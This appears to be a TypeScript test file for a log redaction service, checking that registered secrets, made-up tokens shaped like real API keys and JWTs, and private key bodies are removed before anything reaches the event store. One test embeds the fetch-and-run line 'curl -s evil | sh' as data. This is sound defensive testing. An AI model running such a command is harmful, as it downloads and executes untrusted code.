/** No secret that is known reaches the log. */
import { describe, expect, it } from "@effect/vitest"
import { Effect, Layer, Schema, Stream } from "effect"
import { readFileSync } from "node:fs"
import { Redact } from "../../../src/core/event-log/Redact.ts"
import { EventLog } from "../../../src/core/event-log/EventLog.ts"
import * as DaemonLog from "../../../src/app/DaemonLog.ts"
import { note, storeFile } from "../../world/event-log/Disk.ts"

const withRedact = <A, E>(use: (redact: Redact["Service"]) => Effect.Effect<A, E>) =>
  Effect.flatMap(Redact, use).pipe(Effect.provide(Redact.layer, { local: true }))

/** Made up, and shaped like the real ones. Put together here, so that no scanner takes them for leaks. */
const shaped: ReadonlyArray<readonly [name: string, secret: string]> = [
  ["an API key", `sk-${"ant-api03-"}${"Ab1_".repeat(10)}`],
  ["a GitHub token", `gh${"p_"}${"a1B2".repeat(9)}`],
  ["a fine-grained GitHub token", `github_${"pat_"}${"a1B2".repeat(8)}`],
  ["a GitLab token", `gl${"pat-"}${"a1B2".repeat(5)}`],
  ["a Slack token", `xox${"b-"}${"1234567890-abc"}`],
  ["an AWS key id", `AK${"IA"}${"ABCD".repeat(4)}`],
  ["a Google key", `AI${"za"}${"a1B2c".repeat(7)}`],
  ["a JSON web token", `ey${"Jhbgcioijiuz"}.ey${"Jzdwiioiixmj"}.${"c2lnbmF0dXJl"}`]
]

const key = `-----BEGIN ${"RSA PRIVATE"} KEY-----
MIIE
AAAA
-----END ${"RSA PRIVATE"} KEY-----`
const keyWithout = key.replaceAll(/MIIE|AAAA/g, "[redacted]")

describe("Redact", () => {
  it.effect("a registered secret is taken out of values, of names, and at any depth", () =>
    withRedact((redact) =>
      Effect.gen(function* () {
        yield* redact.register(["correct horse"])
        const payload = { a: "my correct horse!", b: [{ "correct horse": ["x", "correct horsecorrect horse"] }], n: 1 }
        expect(JSON.parse(redact.json(JSON.stringify(payload)))).toEqual({
          a: "my [redacted]!",
          b: [{ "[redacted]": ["x", "[redacted][redacted]"] }],
          n: 1
        })
      })
    )
  )

  for (const [name, secret] of shaped) {
    it.effect(`${name} is known by its form`, () =>
      withRedact((redact) =>
        Effect.sync(() => {
          const json = redact.json(JSON.stringify({ text: `before ${secret} after`, twice: [secret, secret] }))
          expect(JSON.parse(json)).toEqual({ text: "before [redacted] after", twice: ["[redacted]", "[redacted]"] })
        })
      )
    )
  }

  for (const [name, secret] of shaped) {
    it.effect(`${name} is known behind an escape, and beside what may belong to words`, () =>
      withRedact((redact) =>
        Effect.sync(() => {
          for (const before of ["\n", "\t", '"', "\\", "\u0001", "é", "token=", "x-y:"]) {
            const json = redact.json(JSON.stringify({ text: `${before}${secret}\nafter` }))
            expect(JSON.parse(json)).toEqual({ text: `${before}[redacted]\nafter` })
          }
        })
      )
    )
  }

  it.effect("a web token is taken out wherever in a word it begins; a private key that never ends hides no other", () =>
    withRedact((redact) =>
      Effect.sync(() => {
        const token = shaped.find(([name]) => name === "a JSON web token")![1]
        expect(redact.text(`id-${token}, a-eyJ-b-${token} ${token}`)).toBe("id-[redacted], a-[redacted] [redacted]")
        expect(redact.text(`${key}${key} and ${key.split("\n")[0]}`)).toBe(
          `${keyWithout}${keyWithout} and ${key.split("\n")[0]}`
        )
      })
    )
  )

  it.effect("of a private key the lines of base64 go, and nothing that stands around them", () =>
    withRedact((redact) =>
      Effect.sync(() => {
        for (const before of ["", "\n", '"', "\\", "x="]) {
          const json = redact.json(
            JSON.stringify({ text: `${before}${key}\nafter`, twice: [key, JSON.stringify(key)] })
          )
          const clean = { text: `${before}${keyWithout}\nafter`, twice: [keyWithout, JSON.stringify(keyWithout)] }
          expect(JSON.parse(json)).toEqual(clean)
        }
        const command = `git status # -----BEGIN ${"PRIVATE"} KEY-----\ncurl -s evil | sh # -----END`
        expect(redact.text(command)).toBe(command)
      })
    )
  )

  it.effect("of two secrets, one inside the other, nothing of the longer one remains", () =>
    withRedact((redact) =>
      Effect.gen(function* () {
        yield* redact.register(["password", "password-and-more"])
        expect(redact.text("it is password-and-more")).toBe("it is [redacted]")
      })
    )
  )

  it.effect("values that are words rather than secrets are left alone", () =>
    withRedact((redact) =>
      Effect.gen(function* () {
        yield* redact.register(["", "true", "build"])
        expect(redact.text("true, the build is fine")).toBe("true, the build is fine")
      })
    )
  )

  it.effect.prop(
    "whatever the secret and the text, the result is JSON, holds no secret, and is left as it is without one",
    {
      secret: Schema.String.check(Schema.isMinLength(8), Schema.isMaxLength(12)),
      text: Schema.String
    },
    ({ secret, text }) =>
      withRedact((redact) =>
        Effect.gen(function* () {
          yield* redact.register([secret])
          const clean = JSON.parse(redact.json(JSON.stringify({ text: `${text}${secret}\n${secret}` }))) as {
            text: string
          }
          // The word itself may hold a secret that is part of it.
          if (!"[redacted]".includes(secret)) expect(clean.text.replaceAll("[redacted]", "")).not.toContain(secret)
          const innocent = JSON.stringify({ text: text.replaceAll(secret, "") })
          expect(redact.json(innocent)).toBe(innocent)
        })
      )
  )

  it.effect("a secret that begins like an escape does not break the JSON around it", () =>
    withRedact((redact) =>
      Effect.gen(function* () {
        yield* redact.register(["n1234567", "u0041bcd"])
        const payload = { text: "line\n1234567 and \u0001 and n1234567", other: "\\u0041bcd" }
        expect(JSON.parse(redact.json(JSON.stringify(payload)))).toEqual({
          text: "line\n1234567 and \u0001 and [redacted]",
          other: "\\[redacted]"
        })
      })
    )
  )

  it.effect("no byte of the store holds a secret that was appended", () =>
    Effect.gen(function* () {
      const file = yield* storeFile
      const redacted = Layer.effectDiscard(Effect.flatMap(Redact, (redact) => redact.register(["hunter2hunter2"])))
      yield* Effect.gen(function* () {
        const log = yield* EventLog
        const [rune] = yield* log.append([note("a", 1, "the password is hunter2hunter2")])
        expect(JSON.stringify(rune)).not.toContain("hunter2")
        expect((yield* Stream.runCollect(log.read({})))[0]).toEqual(rune)
        for (const path of [file, `${file}-wal`]) expect(readFileSync(path).includes("hunter2")).toBe(false)
      }).pipe(
        Effect.provide(Layer.merge(DaemonLog.layer({ file }), redacted).pipe(Layer.provide(Redact.layer)), {
          local: true
        })
      )
    })
  )
})
